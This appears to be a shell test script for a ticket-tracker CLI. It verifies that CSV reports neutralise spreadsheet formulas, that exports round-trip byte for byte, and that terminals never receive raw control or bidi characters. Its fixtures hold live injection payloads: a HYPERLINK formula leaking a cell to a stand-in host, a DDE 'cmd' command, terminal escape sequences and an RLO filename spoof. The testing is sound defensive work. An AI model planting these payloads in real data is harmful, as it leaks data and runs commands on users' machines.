#!/bin/sh
# Customer text in CSV, JSON and on the terminal (issue 10 item 7):
#   - the CSVs for people (`ticket list --format csv`, `report --format
#     csv`) never hand a spreadsheet a formula: a text cell starting with
#     = + - @ TAB or CR gets a leading ' and quotes; the program's own
#     numbers ("-3600") stay numbers;
#   - `export` is lossless: export -> import gives back the same bytes;
#   - control characters never reach a terminal raw, whatever the format;
#   - bidi overrides and isolates are shown by name in list and show.
. "$(dirname "$0")/../lib.sh"
DB=$TMP/t.db
NOW=2026-04-28T09:00:00Z
export TZ=UTC SLATRACK_USER=alice
S="$SLATRACK --db $DB --now $NOW"
ESC=$(printf '\033') BEL=$(printf '\007') RLO=$(printf '\342\200\256') LRI=$(printf '\342\201\246')

check() { if [ "$2" = "$3" ]; then ok "$1"; else not_ok "$1" "want: $2" "got:  $3"; fi; }
# on_tty CMD...: CMD with a pseudo-terminal as stdout (and stderr); its
# output on stdout
on_tty() {
	timeout 30 python3 -c '
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        d = os.read(fd, 65536)
    except OSError:
        break
    if not d:
        break
    out += d
sys.stdout.buffer.write(out)
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))' "$@"
}
# no_raw NAME FILE: FILE holds no ESC, BEL, RLO or LRI byte sequence
no_raw() {
	if grep -q "$ESC\|$BEL\|$RLO\|$LRI" "$2"; then
		not_ok "$1" "$(od -c "$2" | grep -E '033|007|342' | head -5)"
	else ok "$1"; fi
}

$S partner add acme --name "Acme GmbH" --tz UTC >/dev/null || not_ok "partner add"
# week 2026-W17: Mon 2026-04-20 .. Mon 2026-04-27, 24 h targets Mon-Fri;
# none answered, so all are overdue at NOW
add() { $S ticket add --partner acme --severity high --created 2026-04-20T09:00Z "$@" >/dev/null ||
	not_ok "ticket add $*"; }
add --key F1 --summary '=HYPERLINK("http://evil.test/?leak="&A1,"click me")' --customer '-1'
add --key F2 --summary '+1' --assignee '=cmd|'"' /C calc'"'!A0'
add --key F3 --summary '-2+3'
add --key F4 --summary '@SUM(A1:A9)'
add --key F5 --summary "$(printf '\t=1+1')"
add --key F6 --summary "$(printf '\r=1+1')"
add --key E1 --summary "$(printf 'title \033]0;pwned\007 clear \033[2J')"
add --key "R1${RLO}cba" --summary "$(printf 'invoice %sgnp.exe and %sisolate' "$RLO" "$LRI")"
add --key '=K1' --summary 'formula key'
add --key '@K2' --summary 'at key' --assignee '+bob'

# ---- ticket list --format csv, to a file: neutralised, otherwise exact --------
run $S ticket list --format csv
cp "$TMP/out" "$TMP/list.csv"
check "list csv: exit 0" 0 "$rc"
got=$(python3 - "$TMP/list.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
people = ['key', 'partner', 'responded_by', 'assignee', 'customer', 'summary']
bad = [(r['key'], c, r[c]) for r in rows for c in people
       if r[c][:1] in ('=', '+', '-', '@', '\t', '\r')]
by = {r['key'].lstrip("'"): r for r in rows}
print(len(rows), bad or 'none',
      by['F1']['summary'] == '\'=HYPERLINK("http://evil.test/?leak="&A1,"click me")',
      by['F1']['customer'], by['F2']['summary'], by['F2']['assignee'],
      by['F3']['summary'], by['F4']['summary'], repr(by['F5']['summary']),
      repr(by['F6']['summary']), by['=K1']['key'], by['@K2']['assignee'],
      by['F1']['remaining_s'], by['F1']['overrun_s'][:1] != "'")
PY
)
check "list csv: text from outside never starts a formula; numbers stay numbers" \
	"10 none True '-1 '+1 '=cmd|' /C calc'!A0 '-2+3 '@SUM(A1:A9) \"'\\t=1+1\" \"'\\r=1+1\" '=K1 '+bob -432000 True" \
	"$got"
expect_grep "list csv: the neutralised cell is quoted" "^[0-9]+,F3,acme,.*,\"'-2\+3\"" "$TMP/list.csv"
expect_grep "list csv: a file keeps the stored bytes (no terminal)" "title $ESC\]0;pwned$BEL" "$TMP/list.csv"

# ---- ... on a terminal: nothing raw ------------------------------------------
on_tty $S ticket list --format csv >"$TMP/list-tty.csv"
no_raw "list csv on a terminal: no raw ESC, BEL or bidi control" "$TMP/list-tty.csv"
expect_grep "list csv on a terminal: controls shown visibly" \
	'title \^\[\]0;pwned\^G clear \^\[\[2J' "$TMP/list-tty.csv"
expect_grep "list csv on a terminal: bidi shown by name" \
	'invoice <U\+202E>gnp.exe and <U\+2066>isolate' "$TMP/list-tty.csv"
expect_grep "list csv on a terminal: still neutralised" "\"'=HYPERLINK" "$TMP/list-tty.csv"

# ---- ticket list --format json ---------------------------------------------------
run $S ticket list --format json
cp "$TMP/out" "$TMP/list.json"
no_raw "list json: no raw control or bidi character" "$TMP/list.json"
got=$(python3 -c '
import json, sys
by = {t["key"]: t for t in json.load(open(sys.argv[1], encoding="utf-8"))}
print(by["E1"]["summary"] == "title \x1b]0;pwned\x07 clear \x1b[2J",
      by["R1\u202ecba"]["summary"] == "invoice \u202egnp.exe and \u2066isolate",
      by["F1"]["summary"][:1])' "$TMP/list.json")
check "list json: the text exact once parsed, formulas untouched" "True True =" "$got"

# ---- the table and show: bidi inert ---------------------------------------------
run $S ticket list
no_raw "list table: no raw control or bidi character" "$TMP/out"
expect_grep "list table: the override shown by name" 'R1<U\+202E>cba' "$TMP/out"
run $S ticket show "R1${RLO}cba"
cp "$TMP/out" "$TMP/show.txt"
check "show: exit 0" 0 "$rc"
no_raw "show: no raw control or bidi character" "$TMP/show.txt"
expect_grep "show: summary with the override and isolate by name" \
	'invoice <U\+202E>gnp.exe and <U\+2066>isolate' "$TMP/show.txt"
run $S ticket show E1
no_raw "show: escape sequences inert" "$TMP/out"

# ---- export: lossless for import --------------------------------------------------
run $S export
cp "$TMP/out" "$TMP/export1.csv"
check "export: exit 0" 0 "$rc"
expect_grep "export: a formula-like summary is written as stored" \
	'^F3,acme,high,-2\+3,' "$TMP/export1.csv"
expect_grep "export: a formula-like key is written as stored" '^=K1,acme,high,formula key,' \
	"$TMP/export1.csv"
expect_grep "export: control characters kept exactly in a file" "title $ESC\]0;pwned$BEL" \
	"$TMP/export1.csv"
DB2=$TMP/u.db
$SLATRACK --db "$DB2" --now $NOW partner add acme --name "Acme GmbH" --tz UTC >/dev/null
run $SLATRACK --db "$DB2" --now $NOW import "$TMP/export1.csv"
check "export -> import: every ticket" "0 imported 10 tickets from $TMP/export1.csv (0 rows already present)" \
	"$rc $(cat "$TMP/out")"
if on_pg; then	# no hex() nor group_concat() there: the bytes of the UTF-8 text
	hx() { printf "encode(convert_to(%s, 'UTF8'), 'hex')" "$1"; }
	texts="SELECT string_agg($(hx key) || ':' || $(hx summary) || ':' || $(hx "coalesce(customer, '')") || ':' || $(hx "coalesce(assignee, '')"), ' ' ORDER BY key) FROM tickets"
else
	texts="SELECT group_concat(hex(key) || ':' || hex(summary) || ':' || hex(coalesce(customer, '')) || ':' || hex(coalesce(assignee, '')), ' ') FROM (SELECT * FROM tickets ORDER BY key)"
fi
a=$(sqlite3 "$DB" "$texts") b=$(sqlite3 "$DB2" "$texts")
if [ -n "$a" ] && [ "$a" = "$b" ]; then ok "export -> import: keys, summaries, customers, assignees byte for byte"
else not_ok "export -> import: texts byte for byte" "before: $a" "after:  $b"; fi
$SLATRACK --db "$DB2" --now $NOW export >"$TMP/export2.csv"
if cmp -s "$TMP/export1.csv" "$TMP/export2.csv"; then ok "export -> import -> export: the same file"
else not_ok "export -> import -> export: the same file" "$(diff "$TMP/export1.csv" "$TMP/export2.csv" | head)"; fi

on_tty $S export >"$TMP/export-tty.csv"
no_raw "export on a terminal: no raw control or bidi character" "$TMP/export-tty.csv"
expect_grep "export on a terminal: controls shown visibly" 'title \^\[\]0;pwned\^G' "$TMP/export-tty.csv"
expect_grep "export on a terminal: not neutralised (the machine format)" '^F3,acme,high,-2\+3,' \
	"$TMP/export-tty.csv"
on_tty $S export --format json >"$TMP/export-tty.json"
no_raw "export json on a terminal: no raw control or bidi character" "$TMP/export-tty.json"
run $S export --format json
got=$(python3 -c '
import json, sys
by = {t["key"]: t for t in json.load(open(sys.argv[1], encoding="utf-8"))}
print(by["R1\u202ecba"]["summary"] == "invoice \u202egnp.exe and \u2066isolate",
      by["F5"]["summary"] == "\t=1+1", by["F6"]["summary"] == "\r=1+1")' "$TMP/out")
check "export json: the text exact once parsed" "True True True" "$got"

# ---- report --format csv: for people -----------------------------------------------
run $S report --week 2026-W17 --tz UTC --format csv
cp "$TMP/out" "$TMP/report.csv"
check "report csv: exit 0" 0 "$rc"
no_raw "report csv: no raw control or bidi character, even in a file" "$TMP/report.csv"
got=$(python3 - "$TMP/report.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
bad = [(r['key'], c, r[c]) for r in rows for c in ('key', 'partner', 'assignee')
       if r[c][:1] in ('=', '+', '-', '@', '\t', '\r')]
by = {r['key'].lstrip("'"): r for r in rows}
print(len(rows), bad or 'none', by['=K1']['key'], by['@K2']['assignee'],
      by['F2']['assignee'], 'R1<U+202E>cba' in by, by["F1"]["overrun_working_s"].isdigit())
PY
)
check "report csv: keys and names never start a formula" \
	"10 none '=K1 '+bob '=cmd|' /C calc'!A0 True True" "$got"
on_tty $S report --week 2026-W17 --tz UTC --format csv >"$TMP/report-tty.csv"
no_raw "report csv on a terminal: no raw control or bidi character" "$TMP/report-tty.csv"
on_tty $S report --week 2026-W17 --tz UTC --format json >"$TMP/report-tty.json"
no_raw "report json on a terminal: no raw control or bidi character" "$TMP/report-tty.json"

# ---- partner list --format csv: for people too -------------------------------------
$S partner add evil --name '=HYPERLINK("http://evil.test","Evil")' --tz UTC >/dev/null ||
	not_ok "partner add evil"
run $S partner list --format csv
expect_grep "partner list csv: a name never starts a formula" \
	"^evil,\"'=HYPERLINK\(\"\"http://evil.test\"\",\"\"Evil\"\"\)\",UTC," "$TMP/out"
run $S partner list --format json
check "partner list json: the name exact" '=HYPERLINK("http://evil.test","Evil")' \
	"$(python3 -c 'import json,sys; print([p["name"] for p in json.load(open(sys.argv[1])) if p["key"] == "evil"][0])' "$TMP/out")"
